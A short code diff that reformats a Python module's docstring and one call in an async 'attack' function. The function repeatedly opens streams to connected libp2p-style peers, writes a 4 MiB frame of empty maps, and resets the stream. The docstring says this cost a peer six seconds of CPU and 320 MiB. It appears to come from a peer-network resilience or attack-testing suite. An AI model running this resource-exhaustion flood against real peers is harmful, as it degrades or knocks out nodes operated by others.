@@ -1,4 +1,7 @@
-"""A frame of four MiB full of empty maps (K-A): six seconds of processor and 320 MiB before anybody knew what it was."""
+"""A frame of four MiB full of empty maps (K-A).
+
+It cost six seconds of processor and 320 MiB before the peer knew what it was.
+"""
 
 from __future__ import annotations
 
@@ -18,7 +21,9 @@ async def attack(target: Target) -> None:
         async for number in each_tick(PER_S * len(target.addresses)):
             peers = list(host.get_connected_peers())
             if peers:
-                stream = await quietly(host.new_stream, peers[number % len(peers)], [PROTOCOLS[number % len(PROTOCOLS)]])
+                stream = await quietly(
+                    host.new_stream, peers[number % len(peers)], [PROTOCOLS[number % len(PROTOCOLS)]]
+                )
                 if stream is not None:
                     await quietly(stream.write, frame, timeout_s=4.0)
                     await quietly(stream.reset)
